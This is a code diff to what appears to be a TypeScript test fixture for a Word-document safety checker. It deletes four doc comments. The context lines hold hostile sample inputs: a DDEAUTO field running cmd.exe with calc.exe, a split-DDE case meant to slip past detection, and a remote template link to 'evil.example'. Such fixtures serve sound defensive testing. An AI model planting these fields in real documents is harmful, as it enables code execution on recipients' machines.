@@ -63,7 +63,6 @@ function createPart(root: string, body: string): Buffer {
 }
 
 const ddeInstruction = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
-/** The document contains the drawing among its pictures. */
 function createDrawing(inside: string, before = '', extension = 'svg'): Buffer {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;
   const type = '<Default Extension="svg" ContentType="image/svg+xml"/>';
@@ -90,7 +89,6 @@ const rewritePart = (name: string, change: (text: string) => Buffer | string) =>
 const foreignNamespace = 'xmlns:x="urn:x"';
 const compatibilityNamespace =
   'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
-/** Some programs leave out what is between the two parts of the name of a DDE field. */
 const createSplitDde = (between: string) =>
   createDocument(
     createField(createInstruction('DD'), between, createInstruction('EAUTO cmd')).replace(
@@ -217,7 +215,6 @@ const hiddenByNamespaces: WordCase[] = [
   ],
 ];
 
-/** Word would load, run or start something from these documents. */
 export const unsafeWord: WordCase[] = [
   ...hiddenByNamespaces,
   ['template by http', createRelationship('attachedTemplate', 'http://evil.example/t.dotm')],
@@ -565,7 +562,6 @@ export const unsafeOldWord: WordCase[] = [
   ],
 ];
 
-/** These documents only ask, stay on the machine, or are ordinary documents in another spelling. */
 export const ordinaryWord: WordCase[] = [
   [
     'template of the machine',
